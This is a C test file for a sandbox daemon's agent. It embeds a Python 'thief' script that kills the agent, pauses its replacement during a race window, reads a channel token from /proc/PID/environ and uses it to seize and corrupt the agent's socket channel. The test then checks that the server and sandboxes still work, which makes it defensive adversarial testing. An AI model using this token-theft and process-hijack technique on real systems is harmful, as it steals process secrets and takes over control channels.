/*
 * Adversarial: the agent's secret, stolen.
 *
 * Sandbox code runs as the agent's user.  It kills the agent, stops its
 * replacement right after the exec (before it makes itself
 * non-dumpable), reads the channel's token from /proc/PID/environ and
 * takes the connections' channel with it, then writes junk there.  It
 * often wins that race: what it gets is no more than the sandbox user
 * already has, because nothing on the host trusts the agent or its
 * channel.  Whether the theft worked or not (the test says which), the
 * server answers, commands in this sandbox and in another give their
 * exact output, and nothing is left behind.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <criterion/criterion.h>

#include "adv.h"

/* The thief, in Python, as the sandbox user: writes /tmp/thief.py, then
 * runs it apart (a session of its own, no command token: the agent it
 * kills runs the calls), which writes "stolen" or "not stolen" to
 * /tmp/thief.out and holds what it took. */
static const char thief[] =
    "cat > /tmp/thief.py <<'EOF'\n"
    "import os, signal, socket, struct, sys, time\n"
    "def agents():\n"
    "    out = []\n"
    "    for p in os.listdir('/proc'):\n"
    "        try:\n"
    "            if p.isdigit() and open('/proc/%s/comm' % p).read()"
    ".strip() == '.mcp-sandboxd-a':\n"
    "                out.append(int(p))\n"
    "        except OSError:\n"
    "            pass\n"
    "    return out\n"
    "held = None\n"
    "for attempt in range(6):\n"
    "    old = set(agents())\n"
    "    for p in old:\n"
    "        os.kill(p, signal.SIGKILL)\n"
    "    new, end = None, time.time() + 20\n"
    "    while new is None and time.time() < end:\n"
    "        new = next((p for p in agents() if p not in old), None)\n"
    "    print('attempt', attempt, 'old', sorted(old), 'new', new, "
    "flush=True)\n"
    "    if new is None:\n"
    "        continue\n"
    "    try:\n"
    "        os.kill(new, signal.SIGSTOP)\n"
    "        env = open('/proc/%d/environ' % new, 'rb').read()\n"
    "        tok = [e.split(b'=', 1)[1] for e in env.split(b'\\0')\n"
    "               if e.startswith(b'MCP_SANDBOXD_CHANNEL=')]\n"
    "        if tok:\n"
    "            c = socket.socket(socket.AF_UNIX)\n"
    "            c.connect('/.mcp-sandboxd-channel/sock')\n"
    "            c.sendall(struct.pack('>HHII', 73, 0, len(tok[0]), 0)"
    " + tok[0])\n"
    "            held = c\n"
    "    except OSError:\n"
    "        pass\n"
    "    try:\n"
    "        os.kill(new, signal.SIGCONT)\n"
    "    except OSError:\n"
    "        pass\n"
    "    if held:\n"
    "        break\n"
    "print('stolen' if held else 'not stolen', flush=True)\n"
    "if held:\n"
    "    time.sleep(2)\n"
    "    try:\n"
    "        held.sendall(struct.pack('>HHII', 65, 0, 4, 1) + b'\\0\\0\\0\\1'"
    " + b'\\xff' * 64)\n"
    "    except OSError:\n"
    "        pass\n"
    "    time.sleep(60)\n"
    "EOF\n"
    "setsid env -u MCP_SANDBOXD_EXEC python3 /tmp/thief.py "
    "> /tmp/thief.out 2>&1 < /dev/null &\n"
    "sleep 1";

/* echo in cid gives exactly its word, by whatever way. */
static void
expect_echo(struct h_server *s, const char *cid, const char *word)
{
	char cmd[64], want[64], *out;

	snprintf(cmd, sizeof cmd, "echo %s", word);
	snprintf(want, sizeof want, "%s\n", word);
	out = h_exec_ok(s, cid, cmd);
	cr_expect_str_eq(out, want);
	free(out);
}

Test(agent, stolen_secret_gets_nothing, .timeout = 300)
{
	struct h_server *s;
	json_object *r;
	char *a, *b, *out;
	long long t0;
	int i;

	s = adv_start("--agent", "on", NULL);
	a = h_create(s, NULL);
	b = h_create(s, NULL);
	expect_echo(s, a, "before");
	/* The call that starts it may be lost with the agent it kills. */
	json_object_put(adv_exec(s, a, thief, NULL, 30, NULL));
	/* Its word, on the engine's exec or the agent, whichever is up. */
	t0 = h_now_ms();
	out = NULL;
	while (h_now_ms() - t0 < 180000) {
		r = adv_exec(s, a, "cat /tmp/thief.out", NULL, 30, NULL);
		free(out);
		out = strdup(adv_out(r));
		json_object_put(r);
		if (h_contains(out, "stolen"))
			break;
		usleep(500 * 1000);
	}
	cr_log_info("the thief: %s(after %lld ms)", out, h_now_ms() - t0);
	cr_expect(h_contains(out, "stolen"), "the thief said: %s", out);
	free(out);
	/* Whatever it took, the server and both sandboxes work on. */
	adv_ping(s, 5000);
	for (i = 0; i < 5; i++) {
		expect_echo(s, a, "after");
		expect_echo(s, b, "other");
	}
	adv_alive(s, a);
	h_stop(s, a);
	h_stop(s, b);
	free(a);
	free(b);
	adv_finish(s);
}
